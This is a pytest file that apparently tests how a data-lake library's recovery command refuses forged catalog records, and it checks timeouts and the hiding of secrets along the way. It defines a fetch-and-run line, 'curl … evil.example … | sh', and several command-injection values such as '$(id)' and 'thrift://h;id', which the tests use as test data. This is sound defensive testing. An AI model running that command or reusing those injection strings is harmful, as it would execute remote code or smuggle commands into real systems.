"""Records of tables that no job has written: ``recover`` asks no address of theirs, and repeats no line."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

import magicfs
from magicfs.catalogs import Delta, DuckLake, Glue, Hive, Iceberg, SymlinkManifest, catch_up, described
from magicfs.catalogs import hive as hive_module
from magicfs.catalogs.deadline import within
from magicfs.catalogs.recorded import differs, metastore_of
from magicfs.cli.main import main
from magicfs.errors import Unavailable, UsageError
from magicfs.formats.registration import Registration

HASH = "ab" * 32
COMMAND = "curl -s http://evil.example/x | sh"


class Listener:
    """A server that accepts connections, and never says anything."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.accepted: list[socket.socket] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                self.accepted.append(self.socket.accept()[0])

    def close(self) -> None:
        for one in (self.socket, *self.accepted):
            one.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


@pytest.fixture(autouse=True)
def _no_configuration(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nobody's ``.pyiceberg.yaml`` counts here."""
    monkeypatch.setenv("PYICEBERG_HOME", str(tmp_path))
    monkeypatch.setenv("HOME", str(tmp_path))


@pytest.fixture
def job(tmp_path: Path) -> magicfs.Job:
    with magicfs.Job(f"file://{tmp_path}/sales") as made, made.task(0) as task:
        task.filesystem.pipe_file(f"{task.path}/x.csv", b"n\n1\n")
    return made


def put(job: magicfs.Job, one: Registration, name: str | None = None) -> Path:
    place = Path(f"/{job.spec.location.key}/_magicfs/.catalogs/{name or one.name}")
    place.parent.mkdir(exist_ok=True)
    place.write_bytes(one.to_bytes())
    return place


def forged(job: magicfs.Job, catalog: str, table: str = "", options: Any = None) -> Registration:
    return Registration(job_id=job.id, catalog=catalog, table=table, options=options, line=COMMAND)


def hive_at(job: magicfs.Job, port: int) -> Registration:
    return forged(job, "hive", "db.sales", {"uri": f"thrift://127.0.0.1:{port}", "exact": "false"})


def caught_up(job: magicfs.Job, **how: Any) -> Any:
    [one] = catch_up(job.spec.location.url, **how)
    return one


REGISTRATIONS = {
    "delta": Delta(),
    "delta of a program": Delta(storage_options={"a": "b"}),
    "symlink": SymlinkManifest(),
    "iceberg": Iceberg(type("Catalog", (), {"name": "default", "properties": {"uri": "x"}})(), "db.día 1"),
    "iceberg of a program": Iceberg(object(), "db.sales"),
    "glue": Glue(
        type("C", (), {"meta": type("M", (), {"region_name": "eu-west-1", "endpoint_url": "x"})})(), "db", "s"
    ),
    "glue of a program": Glue(object(), "db", "sales", exact=False),
    "hive": Hive("thrift://meta:9083/", "db", "sales", exact=True),
    "ducklake": DuckLake(object(), "lake", "sales"),
}


@pytest.mark.parametrize("kind", REGISTRATIONS)
def test_what_register_writes_is_believed(kind: str):
    one = REGISTRATIONS[kind].registration("s3://b/it's", "job-1")
    assert differs(one, one.name) is None
    if kind != "glue of a program":  # whose partitions the record does not describe
        assert described.line_of("s3://b/it's", one) == one.line


GLUE = {"exact": "true", "endpointSha256": HASH}
FORGERIES = {
    "an unknown kind": (forged, "unity", "", {}, "catalog"),
    "no kind of ours": (forged, "$(id)", "", None, "catalog"),
    "a table where none is": (forged, "delta", "db.sales", {}, "table"),
    "no table": (forged, "iceberg", "", {"catalog": "x"}, "table"),
    "a table without a database": (forged, "hive", "sales", {"uri": "thrift://h", "exact": "true"}, "table"),
    "a table with an escape": (forged, "iceberg", "db.\x1b[2J", {"catalog": "x"}, "table"),
    "an endless table": (forged, "iceberg", "d" * 513, {"catalog": "x"}, "table"),
    "an option of another kind": (forged, "iceberg", "a.b", {"catalog": "x", "uri": "http://h"}, "options"),
    "an option too many": (forged, "delta", "", {"AWS_ENDPOINT_URL": "http://h"}, "options"),
    "a catalog without a name": (forged, "iceberg", "a.b", {"catalog": ""}, "options.catalog"),
    "no catalog": (forged, "iceberg", "a.b", {}, "options.catalog"),
    "no hash": (forged, "iceberg", "a.b", {"catalog": "x", "uriSha256": "x"}, "options.uriSha256"),
    "a region that is a host": (forged, "glue", "a.b", {**GLUE, "region": "evil.example"}, "options.region"),
    "no flag": (forged, "glue", "a.b", {**GLUE, "exact": "yes"}, "options.exact"),
    "no options of hive": (forged, "hive", "a.b", None, "options"),
    "another scheme": (forged, "hive", "a.b", {"uri": "http://h", "exact": "true"}, "options.uri"),
    "a password": (forged, "hive", "a.b", {"uri": "thrift://u:p@h", "exact": "true"}, "options.uri"),
    "a command": (forged, "hive", "a.b", {"uri": "thrift://h;id", "exact": "true"}, "options.uri"),
    "options of a lake": (forged, "ducklake", "a.b.c", {}, "options"),
}


@pytest.mark.parametrize("name", FORGERIES)
def test_a_field_that_register_cannot_have_written_is_refused(name: str, job: magicfs.Job):
    make, catalog, table, options, field = FORGERIES[name]
    one = make(job, catalog, table, options)
    path = put(job, one)
    found = caught_up(job)
    assert (found.done, found.line) == ("not registered", "")
    assert f"{path}: {field}: " in found.problem
    assert "nothing was changed; remove the file" in found.problem
    assert path.exists()


def test_a_record_under_another_name_is_refused_and_the_others_are_registered(job: magicfs.Job):
    put(job, SymlinkManifest().registration(job.spec.location.url, job.id))
    put(job, forged(job, "delta", options={}), f"{job.id}-0000000000000001.json")
    found = {one.catalog: one for one in catch_up(job.spec.location.url)}
    assert found["symlink"].done == "registered"
    assert found["delta"].done == "not registered"
    assert not Path(f"/{job.spec.location.key}/_delta_log").exists()


def test_the_line_of_a_record_is_never_repeated(job: magicfs.Job, capsys: pytest.CaptureFixture[str]):
    put(job, forged(job, "delta"))
    put(job, forged(job, "iceberg", "db.$(id); x", {"catalog": "a b"}))
    assert main(["recover", job.spec.location.url]) == 1
    out = capsys.readouterr().out
    assert "evil.example" not in out
    assert "--table 'db.$(id); x' --catalog-name 'a b'" in out
    assert "Delta(storage_options=…)" in out
    assert 'the record says: catalog iceberg, table "db.$(id); x"' in out


@pytest.mark.process
def test_a_metastore_that_is_not_ours_is_not_asked(job: magicfs.Job, listener: Listener):
    put(job, hive_at(job, listener.port))
    for how in ({}, {"dry_run": True}, {"metastores": ["thrift://127.0.0.1:1"]}):
        found = caught_up(job, **how)
        assert found.done == "not registered"
        assert f"name it: --metastore thrift://127.0.0.1:{listener.port}; the record says" in found.problem
        assert found.line.endswith(f"--metastore thrift://127.0.0.1:{listener.port}")
    assert listener.accepted == []


@pytest.mark.process
@pytest.mark.parametrize("way", ["option", "environment", "command"])
def test_one_that_is_ours_is_asked_within_a_time(
    way: str,
    job: magicfs.Job,
    listener: Listener,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
):
    monkeypatch.setattr(hive_module, "ANSWER_S", 0.2)
    uri = f"thrift://127.0.0.1:{listener.port}"
    put(job, hive_at(job, listener.port))
    if way == "option":
        assert "Unavailable: register of" in caught_up(job, metastores=[f"{uri}/"]).problem
    elif way == "environment":
        monkeypatch.setenv("PYICEBERG_CATALOG__HIVE__URI", uri)
        assert "Unavailable: register of" in caught_up(job).problem
    else:
        assert main(["recover", job.spec.location.url, "--metastore", uri]) == 1
        assert "Unavailable: register of" in capsys.readouterr().out
    assert len(listener.accepted) == 1


@pytest.mark.parametrize("wrong", ["thrift://h", ["http://h"], ["thrift://u:secret@h"]])
def test_a_wrong_address_is_refused_without_being_shown(wrong: Any, job: magicfs.Job):
    with pytest.raises(UsageError, match="thrift://host:9083") as refused:
        catch_up(job.spec.location.url, metastores=wrong)
    assert "secret" not in str(refused.value)
    with pytest.raises(UsageError) as refused:
        Hive("thrift://user:secret@h", "db", "sales")
    assert "secret" not in str(refused.value)


@pytest.mark.process
def test_a_catalog_of_iceberg_that_says_nothing_is_given_up(
    job: magicfs.Job, listener: Listener, monkeypatch: pytest.MonkeyPatch
):
    from pyiceberg import catalog as pyiceberg_catalog
    from pyiceberg.utils.config import Config

    monkeypatch.setattr(described, "ANSWER_S", 0.3)
    monkeypatch.setenv("PYICEBERG_CATALOG__SILENT__URI", f"http://127.0.0.1:{listener.port}")
    monkeypatch.setattr(pyiceberg_catalog, "_ENV_CONFIG", Config())
    put(job, forged(job, "iceberg", "db.sales", {"catalog": "silent", "uriSha256": HASH}))
    assert "no answer within" in caught_up(job).problem
    assert len(listener.accepted) == 1


def test_a_region_of_glue_is_that_of_the_process(job: magicfs.Job, monkeypatch: pytest.MonkeyPatch):
    from magicfs.catalogs.described import glue_named

    monkeypatch.setenv("AWS_DEFAULT_REGION", "eu-west-1")
    mine = glue_named("db.sales")
    assert mine.client.meta.region_name == "eu-west-1"
    assert (mine.client.meta.config.connect_timeout, mine.client.meta.config.read_timeout) == (10, 120)
    options = {**(mine.options() or {}), "region": "us-east-1"}
    put(job, forged(job, "glue", "db.sales", options))
    assert "is not the one that job" in caught_up(job).problem


@pytest.mark.process
def test_requests_of_a_session_have_a_timeout(listener: Listener, monkeypatch: pytest.MonkeyPatch):
    requests = pytest.importorskip("requests")
    from magicfs.catalogs import deadline

    monkeypatch.setattr(deadline, "ANSWER_S", 0.2)
    with requests.Session() as session:
        deadline.ask_within(session)
        with pytest.raises(requests.exceptions.ReadTimeout):
            session.get(f"http://127.0.0.1:{listener.port}/")


def test_what_fails_in_time_fails_as_it_does():
    def fail() -> None:
        raise ValueError("no")

    with pytest.raises(ValueError, match="no"):
        within(5, "lake", fail)
    assert within(5, "lake", lambda: None) is None
    over = threading.Event()
    with pytest.raises(Unavailable, match="register of lake: no answer within 0 s; check its address"):
        within(0.05, "lake", over.wait)
    over.set()


@pytest.mark.parametrize(
    ("uri", "known"),
    [
        ("thrift://Host", "thrift://host:9083"),
        ("thrift://h:1/", "thrift://h:1"),
        ("thrift://[::1]:2", "thrift://[::1]:2"),
        ("thrift://h:x", None),
        ("thrift://h:99999", None),
        ("thrift://h/db", None),
        ("thrift://h?x", None),
        ("thrift://a b", None),
        ("h:9083", None),
    ],
)
def test_addresses_are_compared_as_they_are_meant(uri: str, known: str | None):
    assert metastore_of(uri) == known
